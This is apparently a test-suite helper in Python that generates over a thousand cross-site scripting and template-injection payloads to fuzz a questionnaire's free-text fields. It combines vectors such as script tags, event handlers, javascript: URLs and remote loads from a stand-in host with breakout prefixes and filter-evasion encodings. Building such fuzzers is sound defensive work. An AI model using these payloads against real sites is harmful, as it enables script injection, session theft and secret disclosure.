"""What might somebody type who wants another person's browser to run, fetch or follow it? A thousand ways and more.

Made of vectors, of what may stand in front to break out of wherever the text is put, and of ways to write it. Nothing
here is longer than the shortest box for free text, and nothing leaves the page that it is on.
"""

import html
import random
from itertools import product
from urllib.parse import quote

from tests.members.attacks import CORPUS

LONGEST = 190  # a name in the questionnaire has 200 characters
VECTORS = (
    "<script>alert(1)</script>",
    "<script src=//elsewhere.example/x.js></script>",
    "<script>import('//elsewhere.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//elsewhere.example/x.png>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href=//elsewhere.example/x.svg#x></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//elsewhere.example>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video autoplay onplay=alert(1)><source src=x></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)></select>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=//elsewhere.example target=_blank>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<link rel=modulepreload href=//elsewhere.example/x.js>",
    "<style>*{background:url(//elsewhere.example)}</style>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<plaintext><script>alert(1)</script>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<hx-x hx-get=//elsewhere.example hx-trigger=load>x</hx-x>",
    "<p data-hx-on:load=alert(1) hx-on::load=alert(1)>x</p>",
    "onmouseover=alert(1) x=",
    "javascript:alert(1)//",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}{{7*7}}",
    "{% debug %}{{ settings.SECRET_KEY }}{% load log %}",
    "[x](javascript:alert(1)) <javascript:alert(1)> ![x](//elsewhere.example/x.png)",
)
FRONTS = (
    "", '">', "'>", '" ', "' ", "`", "</textarea>", "</title>", "</option></select>", "</script>", "</style>", "-->",
    "]]>", "</td></tr></table>", "</a>", "\\\">", "%}", "}}", "*/", "&quot;>", "\ufeff", "\u202e",
)  # fmt: skip


def _shouted(text: str) -> str:
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text))


def _slashed(text: str) -> str:
    """Separators that browsers take and many filters do not."""
    return text.replace(" ", "/", 1).replace("=", "\t=", 1)


def _wide(text: str) -> str:
    """Letters that a normalisation turns into the dangerous ones."""
    return text.translate(str.maketrans("<>\"'=", "＜＞＂＇＝"))


WRITINGS = (str, _shouted, _slashed, html.escape, quote, _wide, lambda text: text.replace("alert", "al\u0065rt\u200b"))


def payloads(count: int) -> list[str]:
    """Always the same ones: the written corpus first, then a mixture."""
    made = {write(front + vector) for front, vector, write in product(FRONTS, VECTORS, WRITINGS)}
    mixture = sorted(text for text in made if len(text) <= LONGEST)
    random.Random(5).shuffle(mixture)
    return list(dict.fromkeys([*CORPUS, *mixture]))[:count]


def chunks(texts: list[str], room: int) -> list[list[str]]:
    """As many in one piece as fit into a box."""
    found: list[list[str]] = [[]]
    for text in texts:
        if sum(len(one) + 1 for one in found[-1]) + len(text) > room:
            found.append([])
        found[-1].append(text)
    return found
